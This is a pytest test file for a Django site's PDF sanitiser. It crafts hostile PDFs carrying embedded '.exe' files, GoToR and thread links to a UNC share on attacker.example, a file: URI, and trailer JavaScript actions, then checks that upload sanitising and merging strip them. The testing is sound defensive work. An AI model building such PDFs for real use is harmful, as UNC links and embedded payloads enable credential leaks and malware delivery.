"""A corpus of crafted PDFs, one for each way a PDF can carry a file or reach outside itself: associated files
(/AF with /EF) on the catalog, a page or an annotation, links that open another file (/GoToR to a UNC path,
/GoToE, an article thread in another file, a file: URI, an unsafe action at the end of a /Next chain), /AA and
/JS in the trailer's document information, and a portable collection. Each is stripped from an upload
(`sanitise_pdf`) and from every PDF the site writes through the merge (`merge_part`, as packs are), and the
result still reads as a PDF with its pages."""

import io

import pikepdf
import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String

from governance.papers import services as report_services
from governance.papers.pdf import merge_part
from governance.papers.sanitise import active_content, sanitise_pdf

from ..paper_helpers import uploaded_pdf, write_report

UNC = "\\\\attacker.example\\share\\minutes.pdf"
PAYLOAD = b"MZ-QZPAYLOAD-not-really-a-program"


def _filespec(pdf, name="QZTOOL.exe"):
    stream = pdf.make_stream(PAYLOAD, Type=Name.EmbeddedFile)
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream, UF=stream))
    )


def _link(pdf, action):
    page = pdf.pages[0]
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10, 200, 40]), Border=Array([0, 0, 0]))
    )
    annot.A = action
    page.obj.Annots = Array([*page.obj.get("/Annots", Array()), annot])
    return annot


def catalog_associated_file(pdf):
    pdf.Root.AF = Array([_filespec(pdf)])


def page_associated_file(pdf):
    pdf.pages[0].obj.AF = Array([_filespec(pdf)])


def annotation_associated_file(pdf):
    annot = _link(pdf, Dictionary(S=Name.URI, URI=String("https://example.org/")))
    annot.AF = Array([_filespec(pdf)])


def go_to_remote_unc(pdf):
    _link(pdf, Dictionary(S=Name.GoToR, F=String(UNC), D=Array([0, Name.Fit]), NewWindow=True))


def go_to_embedded(pdf):
    _link(
        pdf,
        Dictionary(
            S=Name.GoToE, F=_filespec(pdf, "QZINNER.pdf"), D=Array([0, Name.Fit]), T=Dictionary(R=Name.C)
        ),
    )


def thread_in_another_file(pdf):
    _link(pdf, Dictionary(S=Name.Thread, F=String(UNC), D=0))


def file_uri(pdf):
    _link(pdf, Dictionary(S=Name.URI, URI=String("file://attacker.example/share/minutes.pdf")))


def remote_at_the_end_of_a_chain(pdf):
    inner = pdf.make_indirect(Dictionary(S=Name.GoToR, F=String(UNC), D=Array([0, Name.Fit])))
    _link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=inner))


def info_actions(pdf):
    pdf.trailer.Info = pdf.make_indirect(
        Dictionary(
            Title=String("Options appraisal"),
            JS=String("app.alert('QZINFO')"),
            AA=Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert('QZINFO')"))),
        )
    )


def portable_collection(pdf):
    pdf.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D)
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("QZTOOL.exe"), _filespec(pdf)])))


CORPUS = [
    catalog_associated_file,
    page_associated_file,
    annotation_associated_file,
    go_to_remote_unc,
    go_to_embedded,
    thread_in_another_file,
    file_uri,
    remote_at_the_end_of_a_chain,
    info_actions,
    portable_collection,
]


def crafted(build):
    with pikepdf.open(io.BytesIO(uploaded_pdf("Options appraisal", pages=2))) as pdf:
        build(pdf)
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def everything_in(data):
    """Every string and stream (decoded) of a PDF, as bytes, to look for the probe's markers."""
    found = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in [*pdf.objects, pdf.trailer]:
            if isinstance(obj, pikepdf.Stream):
                try:
                    found.append(obj.read_bytes())
                except pikepdf.PdfError:
                    found.append(obj.read_raw_bytes())
            if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream | pikepdf.Array):
                found.append(repr(obj).encode())
    return b"\n".join(found)


def assert_clean(data):
    assert active_content(data) == []
    text = everything_in(data)
    for marker in (PAYLOAD, b"attacker.example", b"QZTOOL", b"QZINNER", b"QZINFO"):
        assert marker not in text
    assert len(pypdf.PdfReader(io.BytesIO(data)).pages) == 2


@pytest.mark.parametrize("build", CORPUS, ids=lambda f: f.__name__)
def test_an_upload_is_kept_without_it(build):
    data = crafted(build)
    assert active_content(data), "the probe carries what it claims to"
    assert_clean(sanitise_pdf(data))


@pytest.mark.parametrize("build", CORPUS, ids=lambda f: f.__name__)
def test_a_pdf_the_site_writes_is_without_it(build):
    """The merge every pack, board pack and delivery pack goes through strips it even from an unsanitised
    part."""
    assert_clean(merge_part(crafted(build), title="Appendix"))


def test_web_and_mail_links_survive(tmp_path):
    def links(pdf):
        _link(pdf, Dictionary(S=Name.URI, URI=String("https://www.camden.gov.uk/")))

    cleaned = sanitise_pdf(crafted(links))
    assert active_content(cleaned) == []
    assert b"https://www.camden.gov.uk/" in everything_in(cleaned)


@pytest.mark.django_db
def test_an_appendix_uploaded_with_every_probe_is_stored_clean(demo, settings, tmp_path):
    from datetime import date, timedelta

    from governance.committees import services as committee_services
    from governance.models import Body

    settings.MEDIA_ROOT = tmp_path
    from django.contrib.auth import get_user_model

    officer = get_user_model().objects.get(username="officer")
    jc = Body.objects.get(partnership__slug="shared-digital", slug="shared-digital-joint-committee")
    meeting = committee_services.meeting_create(
        body=jc, date=date.today() + timedelta(days=40), venue="Town Hall", by=officer
    )
    _, report = write_report(meeting, officer, "Options appraisal")
    with pikepdf.open(io.BytesIO(uploaded_pdf("Options appraisal", pages=2))) as pdf:
        for build in CORPUS:
            if build is not info_actions:
                build(pdf)
        info_actions(pdf)
        out = io.BytesIO()
        pdf.save(out)
    appendix = report_services.appendix_add(
        report=report,
        title="Everything at once",
        upload=SimpleUploadedFile("a.pdf", out.getvalue(), content_type="application/pdf"),
        by=officer,
    )
    appendix.refresh_from_db()
    assert_clean(appendix.file.read())


def test_a_long_document_with_a_long_outline_is_sanitised_and_merged():
    """Outline entries are chained by /Next and pages nest under the page tree: neither may exhaust the stack."""
    from weasyprint import HTML

    html = "".join(f'<h1 style="page-break-before: always">Section {i}</h1><p>Text {i}</p>' for i in range(400))
    data = HTML(string=html).write_pdf()
    cleaned = sanitise_pdf(data)
    assert len(pypdf.PdfReader(io.BytesIO(cleaned)).pages) == 400
    assert active_content(merge_part(cleaned)) == []
